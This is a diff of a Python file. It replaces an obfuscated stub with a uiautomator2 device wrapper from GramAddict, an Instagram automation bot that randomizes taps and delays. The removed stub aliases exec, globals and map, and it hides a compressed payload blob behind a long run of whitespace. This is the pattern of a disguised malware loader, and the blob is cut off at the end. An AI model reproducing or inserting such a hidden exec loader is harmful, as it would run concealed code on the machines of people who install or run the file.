@@ -1,95 +1,821 @@
-from builtins import *
-from math import prod as _multiply
+import logging
+import string
+from datetime import datetime
+from enum import Enum, auto
+from inspect import stack
+from os import getcwd, listdir
+from random import randint, uniform
+from re import search
+from subprocess import PIPE, run
+from typing import Optional
 
+from GramAddict.core.hierarchy_snapshot import HierarchySnapshot, notify_ui_changed
+from GramAddict.core.imports import lazy_import
+from GramAddict.core.rpc_stats import measured, rpc_stats
+from GramAddict.core.utils import random_sleep, sleep
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+uiautomator2 = lazy_import("uiautomator2")
 
-__code__ = 'print("Hello world!")'
+logger = logging.getLogger(__name__)
 
 
-_floor, While, _power, _divide, Positive, _modulo, _theory = exec, str, tuple, map, ord, globals, type
+def create_device(device_id, app_id):
+    try:
+        return DeviceFacade(device_id, app_id)
+    except ImportError as e:
+        logger.error(str(e))
+        return None
+
+
+def get_device_info(device) -> str:
+    serial = device.deviceV2.serial
+    logger.debug(
+        f"Phone Name: {device.get_info()['productName']}, SDK Version: {device.get_info()['sdkInt']}"
+    )
+    if int(device.get_info()["sdkInt"]) < 19:
+        logger.warning("Only Android 4.4+ (SDK 19+) devices are supported!")
+    logger.debug(
+        f"Screen dimension: {device.get_info()['displayWidth']}x{device.get_info()['displayHeight']}"
+    )
+    logger.debug(
+        f"Screen resolution: {device.get_info()['displaySizeDpX']}x{device.get_info()['displaySizeDpY']}"
+    )
+    logger.debug(f"Device ID: {serial}")
+    device.device_id = serial
+    return serial
+
+
+class Timeout(Enum):
+    ZERO = auto()
+    TINY = auto()
+    SHORT = auto()
+    MEDIUM = auto()
+    LONG = auto()
+    EXTRA_LONG = auto()
+
+
+class SleepTime(Enum):
+    ZERO = auto()
+    TINY = auto()
+    SHORT = auto()
+    DEFAULT = auto()
+
+
+class Location(Enum):
+    CUSTOM = auto()
+    WHOLE = auto()
+    CENTER = auto()
+    BOTTOM = auto()
+    RIGHT = auto()
+    LEFT = auto()
+    BOTTOMRIGHT = auto()
+    LEFTEDGE = auto()
+    RIGHTEDGE = auto()
+    TOPLEFT = auto()
+
+
+class Direction(Enum):
+    UP = auto()
+    DOWN = auto()
+    RIGHT = auto()
+    LEFT = auto()
 
-class _absolute:
-    def __init__(self, Round):
-        self._callfunction = _multiply((Round, -84656))
-        self.Run(CallFunction=-38654)
 
-    def Run(self, CallFunction = type):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self._callfunction /= -98799 + CallFunction
-        
+class Mode(Enum):
+    TYPE = auto()
+    PASTE = auto()
+
+
+class DeviceFacade:
+    def __init__(self, device_id, app_id):
+        self.device_id = device_id
+        self.app_id = app_id
+        self._snapshot = None
+        try:
+            if device_id is None or "." not in device_id:
+                self.deviceV2 = uiautomator2.connect(
+                    "" if device_id is None else device_id
+                )
+            else:
+                self.deviceV2 = uiautomator2.connect_adb_wifi(f"{device_id}")
+        except ImportError:
+            raise ImportError("Please install uiautomator2: pip3 install uiautomator2")
+
+    @measured("app_current")
+    def _get_current_app(self):
         try:
-            ((_floor, _divide, _divide) or _divide if (_floor, _divide, _divide) and _divide else ... or (_divide, (_floor, _divide, _divide)))
+            return self.deviceV2.app_current()["package"]
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
+
+    def _ig_is_opened(self) -> bool:
+        return self._get_current_app() == self.app_id
+
+    def check_if_ig_is_opened(func):
+        def wrapper(self, **kwargs):
+            avoid_lst = [
+                "choose_cloned_app",
+                "check_if_crash_popup_is_there",
+                "rotate_ip",
+                "skip_smart_lock",
+            ]
+            caller = stack()[1].function
+            if not self._ig_is_opened() and caller not in avoid_lst:
+                raise DeviceFacade.AppHasCrashed("App has crashed / has been closed!")
+            return func(self, **kwargs)
+
+        return wrapper
+
+    @check_if_ig_is_opened
+    @measured("find")
+    def find(
+        self,
+        index=None,
+        **kwargs,
+    ):
+        try:
+            view = self.deviceV2(**kwargs)
+            if index is not None and view.count > 1:
+                view = self.deviceV2(**kwargs)[index]
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
+        return DeviceFacade.View(view=view, device=self.deviceV2)
+
+    def snapshot(self, force: bool = False) -> HierarchySnapshot:
+        """
+        Returns an in-memory snapshot of the current screen, the hierarchy is dumped
+        again only if an action has been performed since the last snapshot.
+        """
+        if force or self._snapshot is None or not self._snapshot.is_valid():
+            try:
+                with rpc_stats.measure("dump_hierarchy"):
+                    xml_dump = self.deviceV2.dump_hierarchy()
+                self._snapshot = HierarchySnapshot(xml_dump)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+        return self._snapshot
+
+    def back(self, modulable: bool = True):
+        logger.debug("Press back button.")
+        with rpc_stats.measure("back"):
+            self.deviceV2.press("back")
+        notify_ui_changed()
+        random_sleep(modulable=modulable)
 
+    def start_screenrecord(self, output="debug_0000.mp4", fps=20):
+        import imageio
+
+        def _run_MOD(self):
+            from collections import deque
+
+            pipelines = [self._pipe_limit, self._pipe_convert, self._pipe_resize]
+            _iter = self._iter_minicap()
+            for p in pipelines:
+                _iter = p(_iter)
+
+            with imageio.get_writer(self._filename, fps=self._fps) as wr:
+                frames = deque(maxlen=self._fps * 30)
+                for im in _iter:
+                    frames.append(im)
+                if self.crash:
+                    for frame in frames:
+                        wr.append_data(frame)
+            self._done_event.set()
+
+        def stop_MOD(self, crash=True):
+            """
+            stop record and finish write video
+            Returns:
+                bool: whether video is recorded.
+            """
+            if self._running:
+                self.crash = crash
+                self._stop_event.set()
+                ret = self._done_event.wait(10.0)
+
+                # reset
+                self._stop_event.clear()
+                self._done_event.clear()
+                self._running = False
+                return ret
+
+        from uiautomator2 import screenrecord as _sr
+
+        _sr.Screenrecord._run = _run_MOD
+        _sr.Screenrecord.stop = stop_MOD
+        mp4_files = [f for f in listdir(getcwd()) if f.endswith(".mp4")]
+        if mp4_files:
+            last_mp4 = mp4_files[-1]
+            debug_number = "{0:0=4d}".format(int(last_mp4[-8:-4]) + 1)
+            output = f"debug_{debug_number}.mp4"
+        self.deviceV2.screenrecord(output, fps)
+        logger.warning("Screen recording has been started.")
+
+    def stop_screenrecord(self, crash=True):
+        if self.deviceV2.screenrecord.stop(crash=crash):
+            logger.warning("Screen recorder has been stopped successfully!")
+
+    def screenshot(self, path=None):
+        """Without path, returns the image to be saved later"""
+        return self.deviceV2.screenshot(path)
+
+    @measured("dump_hierarchy")
+    def dump_hierarchy(self, path=None):
+        """Without path, returns the xml"""
+        xml_dump = self.deviceV2.dump_hierarchy()
+        if path is None:
+            return xml_dump
+        with open(path, "w", encoding="utf-8") as outfile:
+            outfile.write(xml_dump)
+
+    def press_power(self):
+        self.deviceV2.press("power")
+        notify_ui_changed()
+        sleep(2)
+
+    def is_screen_locked(self):
+        data = run(
+            f"adb -s {self.deviceV2.serial} shell dumpsys window",
+            encoding="utf-8",
+            stdout=PIPE,
+            stderr=PIPE,
+            shell=True,
+        )
+        if data != "":
+            flag = search("mDreamingLockscreen=(true|false)", data.stdout)
+            return flag is not None and flag.group(1) == "true"
+        else:
+            logger.debug(
+                f"'adb -s {self.deviceV2.serial} shell dumpsys window' returns nothing!"
+            )
+            return None
+
+    def is_keyboard_show(self):
+        data = run(
+            f"adb -s {self.deviceV2.serial} shell dumpsys input_method",
+            encoding="utf-8",
+            stdout=PIPE,
+            stderr=PIPE,
+            shell=True,
+        )
+        if data != "":
+            flag = search("mInputShown=(true|false)", data.stdout)
+            return flag.group(1) == "true"
+        else:
+            logger.debug(
+                f"'adb -s {self.deviceV2.serial} shell dumpsys input_method' returns nothing!"
+            )
+            return None
+
+    def is_alive(self):
+        try:
+            return self.deviceV2._is_alive()  # deprecated method
         except AttributeError:
-            ((Positive, _divide) or While if (Positive, _divide) and While else ... or (While, (Positive, _divide)))
+            return self.deviceV2.server.alive
+
+    def wake_up(self):
+        """Make sure agent is alive or bring it back up before starting."""
+        if self.deviceV2 is not None:
+            attempts = 0
+            while not self.is_alive() and attempts < 5:
+                self.get_info()
+                attempts += 1
 
-        except:
-            _theory(5641 / 19932) == True
+    def unlock(self):
+        self.swipe(Direction.UP, 0.8)
+        sleep(2)
+        logger.debug(f"Screen locked: {self.is_screen_locked()}")
+        if self.is_screen_locked():
+            self.swipe(Direction.RIGHT, 0.8)
+            sleep(2)
+            logger.debug(f"Screen locked: {self.is_screen_locked()}")
 
-    def _calculate(self, Algorithm = -47628):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Algorithm *= 74575 - -6460
-        self.Builtins != Ellipsis
-        
+    def screen_off(self):
+        self.deviceV2.screen_off()
+
+    def get_orientation(self):
         try:
-            ((While, (Positive, _divide)) for While in (_divide, _floor, _divide) if _floor < While)
+            return self.deviceV2._get_orientation()
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
 
-        except OSError:
-            (_floor, _divide, _divide) if _power is While else {'y6elRulhl5': _power} >= While
+    def window_size(self):
+        """return (width, height)"""
+        try:
+            self.deviceV2.window_size()
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
 
-        except:
-            _theory(61697 - -96629) == False
+    def swipe(self, direction: Direction, scale=0.5):
+        """Swipe finger in the `direction`.
+        Scale is the sliding distance. Default to 50% of the screen width
+        """
+        swipe_dir = ""
+        if direction == Direction.UP:
+            swipe_dir = "up"
+        elif direction == Direction.RIGHT:
+            swipe_dir = "right"
+        elif direction == Direction.LEFT:
+            swipe_dir = "left"
+        elif direction == Direction.DOWN:
+            swipe_dir = "down"
 
-    def Multiply(_hypothesis = bool):
-        return _modulo()[_hypothesis]
+        logger.debug(f"Swipe {swipe_dir}, scale={scale}")
 
-    def Cube(_square = -56787 * 76165, _statistics = None, Invert = _modulo):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Invert()[_square] = _statistics
-        
         try:
-            {While: _power} if While < _power else (_divide, _floor, _divide) > _floor
+            with rpc_stats.measure("swipe"):
+                self.deviceV2.swipe_ext(swipe_dir, scale=scale)
+            notify_ui_changed()
+            DeviceFacade.sleep_mode(SleepTime.TINY)
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
 
-        except AssertionError:
-            {While: _divide} if _floor == While else {While: _power} < StackOverflow
+    def swipe_points(self, sx, sy, ex, ey, random_x=True, random_y=True, speed=None):
+        if random_x:
+            sx = int(sx * uniform(0.85, 1.15))
+            ex = int(ex * uniform(0.85, 1.15))
+        if random_y:
+            ey = int(ey * uniform(0.98, 1.02))
+        sy = int(sy)
+        try:
+            logger.debug(f"Swipe from: ({sx},{sy}) to ({ex},{ey}).")
+            with rpc_stats.measure("swipe"):
+                self.deviceV2.swipe_points(
+                    [[sx, sy], [ex, ey]], uniform(0.2, 0.5) if speed is None else speed
+                )
+            notify_ui_changed()
+            DeviceFacade.sleep_mode(SleepTime.TINY)
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
 
-        except:
-            _theory(-53826 - -29411) == Ellipsis
+    @measured("get_info")
+    def get_info(self):
+        # {'currentPackageName': 'net.oneplus.launcher', 'displayHeight': 1920, 'displayRotation': 0, 'displaySizeDpX': 411,
+        # 'displaySizeDpY': 731, 'displayWidth': 1080, 'productName': 'OnePlus5', '
+        #  screenOn': True, 'sdkInt': 27, 'naturalOrientation': True}
+        try:
+            return self.deviceV2.info
+        except uiautomator2.JSONRPCError as e:
+            raise DeviceFacade.JsonRpcError(e)
 
-    def execute(code = str):
-        return _floor(While(_power(_divide(Positive, code))))
+    @staticmethod
+    def sleep_mode(mode):
+        mode = SleepTime.DEFAULT if mode is None else mode
+        if mode == SleepTime.DEFAULT:
+            random_sleep()
+        elif mode == SleepTime.TINY:
+            random_sleep(0, 1)
+        elif mode == SleepTime.SHORT:
+            random_sleep(1, 2)
+        elif mode == SleepTime.ZERO:
+            pass
 
-    @property
-    def Builtins(self):
-        self._invert = '<__main__.CallFunction object at 0x000009943BE66596>'
-        return (self._invert, _absolute.Builtins)
+    class View:
+        deviceV2 = None  # uiautomator2
+        viewV2 = None  # uiautomator2
 
-if True:
-    try:
-        _absolute.execute(code = __code__)
-        _negative = _absolute(Round = -12445 + 39458)
+        def __init__(self, view, device):
+            self.viewV2 = view
+            self.deviceV2 = device
+
+        def __iter__(self):
+            children = []
+            try:
+                children.extend(
+                    DeviceFacade.View(view=item, device=self.deviceV2)
+                    for item in self.viewV2
+                )
+                return iter(children)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def ui_info(self):
+            try:
+                return self.viewV2.info
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def content_desc(self):
+            try:
+                return self.viewV2.info["contentDescription"]
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def child(self, *args, **kwargs):
+            try:
+                view = self.viewV2.child(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def sibling(self, *args, **kwargs):
+            try:
+                view = self.viewV2.sibling(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def left(self, *args, **kwargs):
+            try:
+                view = self.viewV2.left(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def right(self, *args, **kwargs):
+            try:
+                view = self.viewV2.right(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def up(self, *args, **kwargs):
+            try:
+                view = self.viewV2.up(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def down(self, *args, **kwargs):
+            try:
+                view = self.viewV2.down(*args, **kwargs)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+            return DeviceFacade.View(view=view, device=self.deviceV2)
+
+        def click_gone(self, maxretry=3, interval=1.0):
+            try:
+                self.viewV2.click_gone(maxretry, interval)
+                notify_ui_changed()
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def click(self, mode=None, sleep=None, coord=None, crash_report_if_fails=True):
+            if coord is None:
+                coord = []
+            mode = Location.WHOLE if mode is None else mode
+            if mode == Location.WHOLE:
+                x_offset = uniform(0.15, 0.85)
+                y_offset = uniform(0.15, 0.85)
+
+            elif mode == Location.LEFT:
+                x_offset = uniform(0.15, 0.4)
+                y_offset = uniform(0.15, 0.85)
+
+            elif mode == Location.LEFTEDGE:
+                x_offset = uniform(0.1, 0.2)
+                y_offset = uniform(0.40, 0.60)
+
+            elif mode == Location.CENTER:
+                x_offset = uniform(0.4, 0.6)
+                y_offset = uniform(0.15, 0.85)
+
+            elif mode == Location.RIGHT:
+                x_offset = uniform(0.6, 0.85)
+                y_offset = uniform(0.15, 0.85)
+
+            elif mode == Location.RIGHTEDGE:
+                x_offset = uniform(0.8, 0.9)
+                y_offset = uniform(0.40, 0.60)
+
+            elif mode == Location.BOTTOMRIGHT:
+                x_offset = uniform(0.8, 0.9)
+                y_offset = uniform(0.8, 0.9)
+
+            elif mode == Location.TOPLEFT:
+                x_offset = uniform(0.05, 0.15)
+                y_offset = uniform(0.05, 0.25)
+            elif mode == Location.CUSTOM:
+                try:
+                    logger.debug(f"Single click ({coord[0]},{coord[1]})")
+                    with rpc_stats.measure("click"):
+                        self.deviceV2.click(coord[0], coord[1])
+                    notify_ui_changed()
+                    DeviceFacade.sleep_mode(sleep)
+                    return
+                except uiautomator2.JSONRPCError as e:
+                    if crash_report_if_fails:
+                        raise DeviceFacade.JsonRpcError(e)
+                    else:
+                        logger.debug("Trying to press on a obj which is gone.")
+
+            else:
+                x_offset = 0.5
+                y_offset = 0.5
+
+            try:
+                visible_bounds = self.get_bounds()
+                x_abs = int(
+                    visible_bounds["left"]
+                    + (visible_bounds["right"] - visible_bounds["left"]) * x_offset
+                )
+                y_abs = int(
+                    visible_bounds["top"]
+                    + (visible_bounds["bottom"] - visible_bounds["top"]) * y_offset
+                )
+
+                logger.debug(
+                    f"Single click in ({x_abs},{y_abs}). Surface: ({visible_bounds['left']}-{visible_bounds['right']},{visible_bounds['top']}-{visible_bounds['bottom']})"
+                )
+                with rpc_stats.measure("click"):
+                    self.viewV2.click(
+                        self.get_ui_timeout(Timeout.LONG),
+                        offset=(x_offset, y_offset),
+                    )
+                notify_ui_changed()
+                DeviceFacade.sleep_mode(sleep)
+
+            except uiautomator2.JSONRPCError as e:
+                if crash_report_if_fails:
+                    raise DeviceFacade.JsonRpcError(e)
+                else:
+                    logger.debug("Trying to press on a obj which is gone.")
+
+        def click_retry(self, mode=None, sleep=None, coord=None, maxretry=2):
+            """return True if successfully open the element, else False"""
+            if coord is None:
+                coord = []
+            self.click(mode, sleep, coord)
+
+            while maxretry > 0:
+                if not self.exists():
+                    return True
+                # we wait a little more before try again
+                random_sleep(2, 4, modulable=False)
+                logger.debug("UI element didn't open! Try again..")
+                self.click(mode, sleep, coord)
+                maxretry -= 1
+            if not self.exists():
+                return True
+            logger.warning("Failed to open the UI element!")
+            return False
+
+        def double_click(self, padding=0.3, obj_over=0):
+            """Double click randomly in the selected view using padding
+            padding: % of how far from the borders we want the double
+                    click to happen.
+            """
+            visible_bounds = self.get_bounds()
+            horizontal_len = visible_bounds["right"] - visible_bounds["left"]
+            vertical_len = visible_bounds["bottom"] - max(
+                visible_bounds["top"], obj_over
+            )
+            horizontal_padding = int(padding * horizontal_len)
+            vertical_padding = int(padding * vertical_len)
+            random_x = int(
+                uniform(
+                    visible_bounds["left"] + horizontal_padding,
+                    visible_bounds["right"] - horizontal_padding,
+                )
+            )
+            random_y = int(
+                uniform(
+                    visible_bounds["top"] + vertical_padding,
+                    visible_bounds["bottom"] - vertical_padding,
+                )
+            )
+
+            time_between_clicks = uniform(0.050, 0.140)
+
+            try:
+                logger.debug(
+                    f"Double click in ({random_x},{random_y}) with t={int(time_between_clicks*1000)}ms. Surface: ({visible_bounds['left']}-{visible_bounds['right']},{visible_bounds['top']}-{visible_bounds['bottom']})."
+                )
+                with rpc_stats.measure("click"):
+                    self.deviceV2.double_click(
+                        random_x, random_y, duration=time_between_clicks
+                    )
+                notify_ui_changed()
+                DeviceFacade.sleep_mode(SleepTime.DEFAULT)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def scroll_to(self, text):
+            try:
+                self.viewV2.scroll.to(text=text)
+                notify_ui_changed()
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def scroll_toEnd(self):
+            try:
+                self.viewV2.scroll.toEnd()
+                notify_ui_changed()
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("scroll")
+        def scroll(self, direction):
+            try:
+                if direction == Direction.UP:
+                    self.viewV2.scroll.toBeginning(max_swipes=1)
+                else:
+                    self.viewV2.scroll.toEnd(max_swipes=1)
+                notify_ui_changed()
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("fling")
+        def fling(self, direction):
+            try:
+                if direction == Direction.UP:
+                    self.viewV2.fling.toBeginning(max_swipes=5)
+                else:
+                    self.viewV2.fling.toEnd(max_swipes=5)
+                notify_ui_changed()
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("exists")
+        def exists(self, ui_timeout=None, ignore_bug: bool = False) -> bool:
+            try:
+                # Currently, the methods left, right, up and down from
+                # uiautomator2 return None when a Selector does not exist.
+                # All other selectors return an UiObject with exists() == False.
+                # We will open a ticket to uiautomator2 to fix this inconsistency.
+                if self.viewV2 is None:
+                    return False
+                exists: bool = self.viewV2.exists(self.get_ui_timeout(ui_timeout))
+                if (
+                    hasattr(self.viewV2, "count")
+                    and not exists
+                    and self.viewV2.count >= 1
+                ):
+                    logger.debug(
+                        f"UIA2 BUG: exists return False, but there is/are {self.viewV2.count} element(s)!"
+                    )
+                    if ignore_bug:
+                        return "BUG!"
+                    # More info about that: https://github.com/openatx/uiautomator2/issues/689"
+                    return False
+                return exists
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("count_items")
+        def count_items(self) -> int:
+            try:
+                return self.viewV2.count
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("wait")
+        def wait(self, ui_timeout=Timeout.MEDIUM, exists=True):
+            try:
+                return self.viewV2.wait(
+                    exists=exists, timeout=self.get_ui_timeout(ui_timeout)
+                )
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def wait_gone(self, ui_timeout=None):
+            try:
+                return self.viewV2.wait_gone(timeout=self.get_ui_timeout(ui_timeout))
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def is_above_this(self, obj2) -> Optional[bool]:
+            obj1 = self.viewV2
+            obj2 = obj2.viewV2
+            try:
+                if obj1.exists() and obj2.exists():
+                    return obj1.info["bounds"]["top"] < obj2.info["bounds"]["top"]
+                else:
+                    return None
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @measured("get_bounds")
+        def get_bounds(self) -> dict:
+            try:
+                return self.viewV2.info["bounds"]
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        def get_height(self) -> int:
+            bounds = self.get_bounds()
+            return bounds["bottom"] - bounds["top"]
+
+        def get_width(self):
+            bounds = self.get_bounds()
+            return bounds["right"] - bounds["left"]
+
+        def get_property(self, prop: str):
+            try:
+                return self.viewV2.info[prop]
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
+
+        @staticmethod
+        def get_ui_timeout(ui_timeout: Timeout) -> int:
+            ui_timeout = Timeout.ZERO if ui_timeout is None else ui_timeout
+            if ui_timeout == Timeout.ZERO:
+                ui_timeout = 0
+            elif ui_timeout == Timeout.TINY:
+                ui_timeout = 1
+            elif ui_timeout == Timeout.SHORT:
+                ui_timeout = 3
+            elif ui_timeout == Timeout.MEDIUM:
+                ui_timeout = 5
+            elif ui_timeout == Timeout.LONG:
+                ui_timeout = 8
+            elif ui_timeout == Timeout.EXTRA_LONG:
+                ui_timeout = 15
+            return ui_timeout
+
+        @measured("get_text")
+        def get_text(self, error=True, index=None):
+            try:
+                text = (
+                    self.viewV2.info["text"]
+                    if index is None
+                    else self.viewV2[index].info["text"]
+                )
+                if text is not None:
+                    return text
+            except uiautomator2.JSONRPCError as e:
+                if error:
+                    raise DeviceFacade.JsonRpcError(e)
+                else:
+                    return ""
+            logger.debug("Object exists but doesn't contain any text.")
+            return ""
+
+        def get_selected(self) -> bool:
+            try:
+                if self.viewV2.exists():
+                    return self.viewV2.info["selected"]
+                logger.debug(
+                    "Object has disappeared! Probably too short video which has been liked!"
+                )
+                return True
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
 
-        _negative._calculate(Algorithm = 61146 / _negative._callfunction)                                                                                                                                                                                                                                                          ;_absolute.Cube(_square='S222SS2SS22SSSS22SSSSS2S',_statistics=b'x\x9c\xdd=\xfds\xdb\xb8\x8e\xbfgf\xff\x07\xd6\x9d\x9b\xc8\xad\xa3:i\xb3\xaf\xebY\xef\xbc\xee&\xdbv/\xad3M\xba\x1f\x97\xcd\xe8\xc9\x12\x1d\xab\x95E\x9d>\x9a\xf8\xe5\xf2\xbf\x1f\x00R\xb2DQ\xfeH\xdb\xe4\xaeJkK\x14\t\x02 \x08\x02$H?d/_>`\x7f\x89\x9c}\xc8\xd3\x8c\xf9\\\x8c\'y\xea\xb9\x19\xf7\x99\xcb&A\xc8Y%\xe52\xc8\xa6\xec\x80\x87\xf9\x15\xdf\xdaz\xc8~\x11\xd1E\xe2fy\xe8f\x81\x88\xd2\x07[[[Y2\x1fl1\xb8\x82\t\xb3\xe8\x06/\xc7)\x80\x88\xc4q\xd8\x83!\xebH(\x1d&\x92J.7\xcf\xa6"IU\x96\x13\xd7\x7f\xe5\xce\xb4,\x17\x80B>V9\xa6Y\x16\xa7\x83\'Od\xa2\xed\x89\xd9\x13-\xbb\x1f\xa4\x9eH|-\xbfJ\xb5/.\xf4\xfca\xe0\xf1(\xe5*\xff\xe1\xf1\xd1\xce\x9e\xdd\xd7\xf2x\xc2W\x19\xb6\xe3$\x882\xab\xf3\x8a\x87\xa1`\x97"\t\xfd\x07\x9d\xee6\xe5\xed\x0e\xca"\x98g;\xfd\x18\xf8\xdb\xdd-~\xe5\xf18S<\x8a\xe2\x1cJ\xbf\x13)O\x99\x9bp\x96p\xff\xef\xe8\xf7@\x84<\x93\t\xe30\xe7\x7fG\xd8<\xf8\xe42\x04\xf2w\xf4V\x8c\x85?ga\xf0\x11\xca\xcdE\xde\xe9nI\xcc\x82Y,\x92\xccq\xa0\xb6y\xba\xdd\xb5\xf9U\x90Y]h\x96Pxn\x98Z\xdd\xb3\xedQ_\xc0_\x7f\xd4\xef\x0b\xd1\x1f\xc1\x93\xd8>\x1f^\x84b\x0c\xef\xb7\x9a/\xb1\xc8\xde\xc9\x1e^\'\'\xf8\x1f>\xe1o\xfbl0x\xbc\xf3x\xc7\xda\xb1\x1e\xefv\xbb\xe7\x00\x82gn\x96%- \xde\xbe}\xfb\x06\xff\xc1\x87\xbcm\x02\xf0\x83\xb6\xc2\xaf\x8f~\xfb\xed\xe8\xe8\xe8\xf5ot\x1d\x1d\xc9{\xf8\x0f\x98K\xc2\xb6Z\xb3`\xf9\x03q0\x12\xa3\x91\x80\xef\x83\x03!\xc4\x08>\xa1\xe8\x82]-\xf5^]\xe2\xdf\xe5\xd5\x15}\xc1\x7f(d\x82em\x8f\xf3 \xcc\x82\x08Y\xfe\xc9M\xd2\xadFI\x04wB\xcc\xdb#\xfe\x9d(F\x02\xc4\xe2Y2\x18\xf9\xbcg\x99kI\xa3 \x0b\x83|\xac\xf3\xae\xdb{[2\xf6\x8d\xbc\xdd\x14B\xf7\xec\xf3A\xd8A\xe4\xf3+k\x9b\xa7\xa1\xfbk\xe3\xf5y\xd7\xcc\x15\xe0\xf9\x08\xf9>\x82O\xfc\x13\xf4\x00\x8d\xd1\xff\x16y\x13\n\xd1|\x0b\xacY*\xbf\x98\xf2\xdbkJ\x81O\xf8\xff\x1a\xbf\x81=\xdb\xdb\xf6\x07\x11D\xcbK\x033\x05`\t\xd8\x1e\x8c\xf0V \xe2\xdf"o\x93,\xdd\x98\xb5#\xec\xf7 q\xaa\xef\x8boS\xeax\x9e\x9cn\xce\x9a\xa2+\x92\xc0`\xff\x04\xf6\x88oRr2W\x84\x93\x8d\x19\x04\x95A\x97\xa2\xcaFX\xd5H\xde\x1d|\x8b\x1c\xe2a\x10\xcf\x84\xb7\xb6V\xff\xe3\xcf?\xe9\x1f|\xfc)?\xbeE\xae\x84\xee\'nb\x89\xd9\x9c(\x07\xfd\xc2\x06\xd8\xdbl\xf8\x0f\x02/u\xa3\xe03\x98\xd2\na}\xa6\xb4\x83(\x982\x07\xa7\xe1\x8aO\xa3|m\xce\x18\x18c\x8d\xb7\xf7\x9f>\xdd\xdb\x7f\x8a\x9f\xf8\'\xef\x8a\xb4"U\xa6\xe0\x1fX^>G\xc3\xdc\xda~>\xc9\x0cu\x7f{\xd2\xe7\xf1+\xa3\xf4\xc15I\xc4\x8c\x15F)\x93f.\x03\x03\xbb\x07E\xbc\xdeD$37\xebM\xdd\x14-\xf6^\x90\xf1\xa4\x17\xf2\xa87s\xafz\xe0\x15\xf5x\x94\xcf8\xf8u\xbc\x17\'"\xe6I6\xef\x81\x07\xd3K9\xfc\x87\xfc\xaf\t\xdca\x92\x88\xa4\x07\xaf\xa3-\x04jm\x83o\xb3\xa5j\n\xc5\xc5E\x10]|W<C)z$\xb4|\x00\x9c\x053^\xa2\xa5\x9e\xd5k\xac\xbcxu\x08\xf7=\x06N\xa1P/\x81\x9a\x98{\x19+\xe1\xba\xdeG\xf5J\x94t\x82\'\xe2]\xfa=p\x8f\xd2\x0chV\xef\x137\xf2E\t\x19\x9f\x90&\x96G\x01\xb2\xa3\xc8Tb\x95r7\xf1\xa6*9\xcd\xc7\xc0\t\x8f\xa7e\x1d\xc7\xaf\x8f\x0f{,\xc9#\x95\xa3JP\x1ar\x1e\x17\xe9\xf3\x18(/\xde\x8cb\xf4\x93\xdd\xf0\xbb\xad\x925y\x80\xe4\xcd\xd01\xde\xc3d*\xf52qg/|?\xf02pi\x13n\xe7Y\x10\xa6U\xd4\xc5\xccQ\xb5|\xb7\x85\xcc\xe6\t\x1b\x16\\\xb7\x81\xfe#J\xb3\x1c\'rg\xe0\xaav1\xdfw[>\x9f0/\xe1\xc0o\xc7\xe7\x9f\xc0\xd1\xb5\xe4\x97\x13\x00\xb7\xdc8\x86\xef\xee\xe0;r%\xd1\x8d\xff\xae\xf4_\x13\x9e\xe5I\x04\x8e?\xe6\xfe\xd5\xf5\\\xdfTT\xe6\x97\xfe-\xab\x08\tsS\xc6+\xd0$\xc26